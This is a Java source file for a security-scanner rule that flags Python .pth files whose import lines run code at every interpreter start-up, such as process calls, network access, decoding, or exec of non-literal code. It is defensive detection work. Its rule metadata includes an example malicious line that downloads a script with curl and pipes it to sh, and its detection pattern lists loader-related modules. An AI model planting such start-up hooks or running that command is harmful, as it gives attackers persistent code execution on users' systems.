package dev.kingsnake.rules.imports;

import dev.kingsnake.Confidence;
import dev.kingsnake.Reach;
import dev.kingsnake.Severity;
import dev.kingsnake.spi.FileKind;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.Location;
import dev.kingsnake.spi.Rule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.SourceFile;
import dev.kingsnake.spi.Tags;

import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * A {@code .pth} file whose {@code import} line does more than import a module or add a path: the
 * interpreter runs such lines at every start-up, so they are a favourite persistence/loader trick.
 */
public final class PthCodeRule implements Rule {
    static final RuleInfo INFO = new RuleInfo("KS-IMPORT-PTH-CODE",
            "A .pth file runs code at every interpreter start (process, network, decoding or exec of "
                    + "non-literal code in an import line)",
            Severity.HIGH, Confidence.HIGH, Set.of(Tags.EXECUTE, Tags.PERSISTENCE, Tags.STRONG),
            "import os; os.system('curl -s https://example.invalid/x | sh')",
            "Real .pth files (distutils-precedence, coverage, namespace-package *-nspkg.pth, editable "
                    + "installs) import a module, read environment variables or exec a literal string: none "
                    + "of those is reported. Binary files named .pth (model weights) have no import lines.");

    /** Things a start-up hook has no business doing. */
    static final Pattern DANGER = Pattern.compile(
            "\\b(subprocess|os\\.system|os\\.popen|popen|spawn|pty|base64|b64decode|b32decode|zlib|marshal|"
                    + "pickle|urllib|urlopen|requests|socket|http\\.client|httpx|codecs\\.decode|bytes\\.fromhex|"
                    + "unhexlify|decompress|ctypes|fromhex|rot13|startfile)\\b|https?://"
                    + "|\\b(exec|eval|compile)\\s*\\(\\s*(?![rbuRBU]{0,2}['\"])");
    static final Pattern NETWORK = Pattern.compile("\\b(urllib|urlopen|requests|socket|http\\.client|httpx)\\b|https?://");
    static final Pattern RUNS = Pattern.compile("\\b(exec|eval|compile|system|popen|subprocess)\\b");

    /** A string literal (its prefix letters stay outside): triple- or single-quoted, with escapes. */
    private static final Pattern STRING = Pattern.compile(
            "'''[\\s\\S]*?'''|\"\"\"[\\s\\S]*?\"\"\"|'(?:\\\\.|[^'\\\\])*'|\"(?:\\\\.|[^\"\\\\])*\"");
    private static final Pattern RUNS_LITERAL = Pattern.compile("\\b(exec|eval|compile)\\s*\\(\\s*[rRuU]?$");

    /**
     * The line as code: words inside string literals (a warning that mentions "subprocess") are blanked, while
     * the literal given to {@code exec}/{@code eval}/{@code compile} is code and is read the same way, unescaped.
     */
    static String code(String line) {
        StringBuilder out = new StringBuilder();
        Matcher m = STRING.matcher(line);
        int last = 0;
        while (m.find()) {
            out.append(line, last, m.start());
            String literal = m.group();
            if (RUNS_LITERAL.matcher(out).find()) {
                int q = literal.startsWith("'''") || literal.startsWith("\"\"\"") ? 3 : 1;
                // quoted still, so the exec of a literal is not taken for the exec of a computed value
                out.append('\'').append(code(unescape(literal.substring(q, literal.length() - q)))).append('\'');
            } else {
                out.append("''");
            }
            last = m.end();
        }
        return out.append(line.substring(last)).toString();
    }

    private static String unescape(String body) {
        StringBuilder sb = new StringBuilder(body.length());
        for (int i = 0; i < body.length(); i++) {
            char c = body.charAt(i);
            if (c == '\\' && i + 1 < body.length()) {
                char n = body.charAt(++i);
                sb.append(n == 'n' ? '\n' : n == 't' ? '\t' : n);
            } else {
                sb.append(c);
            }
        }
        return sb.toString();
    }

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(RuleContext ctx, FindingSink sink) {
        for (SourceFile f : ctx.files()) {
            if (f.kind() != FileKind.PTH) {
                continue;
            }
            String[] lines = f.text().split("\r\n|\r|\n", -1);
            for (int i = 0; i < lines.length; i++) {
                String l = lines[i];
                if (!(l.startsWith("import ") || l.startsWith("import\t"))) {
                    continue;
                }
                String code = code(l);
                Matcher m = DANGER.matcher(code);
                if (!m.find()) {
                    continue;
                }
                String ev = FindingSink.clip(l, 200);
                Location at = Location.of(f, i + 1, 1, Reach.IMPORT_TIME);
                if (NETWORK.matcher(l).find() && RUNS.matcher(code).find()) {
                    sink.report(at, ".pth start-up hook downloads and runs code: " + m.group().strip(), ev,
                            Severity.CRITICAL, Confidence.HIGH);
                } else {
                    sink.report(at, ".pth start-up hook runs code: " + m.group().strip(), ev);
                }
            }
        }
    }
}
